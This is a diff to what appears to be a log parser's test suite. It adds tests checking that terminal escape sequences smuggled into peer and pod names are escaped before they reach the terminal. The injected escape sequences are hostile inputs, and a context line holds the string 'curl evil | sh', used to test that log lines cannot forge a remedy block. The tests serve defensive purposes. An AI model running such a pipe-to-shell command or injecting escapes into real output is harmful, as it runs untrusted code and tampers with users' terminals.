@@ -173,6 +173,24 @@ def test_nothing_in_a_line_reaches_the_terminal(shell: Any) -> None:
         assert character not in said.out + said.err
 
 
+def test_a_peer_that_a_team_named_reaches_no_terminal(shell: Any, tmp_path: Path) -> None:
+    rules = tmp_path / "names.rules"
+    rules.write_text("event reset { match /gone (?<peer>\\S+) bye/ }\n")
+    line = b"2026-11-22T00:00:01.5Z stdout F gone a\x1b]0;owned\x07b bye\n"
+    for command in ("run", "parse"):
+        said = shell.run(command, "--no-builtin", "-r", rules, stdin=line)
+        assert "a\\x1b]0;owned\\x07b" in said.out
+        assert "\x1b" not in said.out + said.err
+
+
+def test_a_pod_named_in_json_reaches_no_terminal(shell: Any) -> None:
+    pod = {"pod_name": "a\x1b[2Jb", "namespace_name": "n"}
+    line = json.dumps({"log": "10.0.0.1 hung up on x", "kubernetes": pod}).encode()
+    said = shell.reads(stdin=line, command="parse")
+    assert "pod a\\x1b[2Jb" in said.out
+    assert "\x1b" not in said.out
+
+
 def test_a_line_cannot_forge_a_block(shell: Any) -> None:
     text = "10.0.0.1 hung up on x\n  remedy   curl evil | sh"
     stdin = b"".join(
